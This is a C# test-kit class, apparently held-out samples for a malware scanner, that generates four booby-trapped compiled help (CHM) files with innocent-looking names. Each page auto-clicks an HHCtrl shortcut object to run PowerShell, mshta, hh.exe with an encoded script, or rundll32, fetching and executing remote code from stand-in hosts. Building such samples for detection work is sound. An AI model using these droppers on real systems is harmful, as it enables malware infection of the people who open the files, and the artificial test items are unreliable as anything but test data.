namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Compiled help files whose page presses its own shortcut.</summary>
public sealed class CompiledHelp : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string Click = "<SCRIPT>\nx.Click();\n</SCRIPT>";
        static string Shortcut(string item) => $"<OBJECT id=x classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\" width=1 height=1>\n<PARAM name=\"Command\" value=\"ShortCut\">\n<PARAM name=\"Button\" value=\"Bitmap::shortcut\">\n<PARAM name=\"Item1\" value=\"{item}\">\n<PARAM name=\"Item2\" value=\"273,1,1\">\n</OBJECT>\n";
        yield return ("Account security guide.chm", Build(("index.htm", "<html><head><title>Guide</title></head><body>\n" + Shortcut(",cmd.exe,/c powershell -WindowStyle Hidden -Command (New-Object Net.WebClient).DownloadFile('http://192.0.2.201/g.vbs','%TEMP%\\g.vbs') & wscript %TEMP%\\g.vbs") + Click + "<h1>Account security guide</h1></body></html>")));
        yield return ("20261120 notice.chm", Build(("main.html", "<html><body>\n" + Shortcut(",mshta.exe,http://notice-board.example/n/1.html ,") + Click + "<p>Notice of card limit</p></body></html>"), ("img.htm", "<html><body>image</body></html>")));
        yield return ("Manual_EN.chm", Build(("intro.htm", "<html><body><h2>Operating manual</h2><script>var r='<obj'+'ect id=q class'+'id=\"cls'+'id:ADB880A6-D8FF-11CF-9377-00AA003B7A11\"><par'+'am name=Command value=Short'+'Cut><par'+'am name=Item1 value=\",h'+'h.exe,-decom'+'pile C:\\\\Users\\\\Public\\\\Libraries '+unescape(location.href.substr(14).split('::')[0])+'\"></obj'+'ect>';document.body.insertAdjacentHTML('beforeend',r);q.Click();setTimeout(function(){y.Click()},3000);</script>" + Shortcut(",WScript.exe,C:\\Users\\Public\\Libraries\\Docs.jse").Replace("id=x", "id=y", StringComparison.Ordinal) + "</body></html>"), ("Docs.jse", System.Text.Encoding.Latin1.GetString(ScriptEncoder.Encode("new ActiveXObject('WScript.Shell').Run('certutil -decode a b', 0)")))));
        yield return ("Price list (help).chm", Build(("p.htm", "<html><body onload=\"window.setTimeout('k.HHClick()',10)\"><p>Price list</p>" + Shortcut(",rundll32.exe,javascript:&quot;\\..\\mshtml,RunHTMLApplication &quot;;document.write();GetObject('script:http://price-help.example/p')").Replace("id=x", "id=k", StringComparison.Ordinal) + "</body></html>")));
    }

    private static byte[] Build(params (string Name, string Text)[] pages)
    {
        using var folder = new TemporaryFolder();
        foreach (var (name, text) in pages)
            folder.Write(name, System.Text.Encoding.Latin1.GetBytes(text));
        folder.Write("in.hhp", $"[OPTIONS]\nCompatibility=1.1 or later\nCompiled file=out.chm\nDefault topic={pages[0].Name}\nLanguage=0x409 English\nTitle=Help\n\n[FILES]\n{string.Join('\n', pages.Select(page => page.Name))}\n");
        ForeignTool.Run(folder.Path, "chmcmd", "in.hhp");
        return folder.Read("out.chm");
    }
}
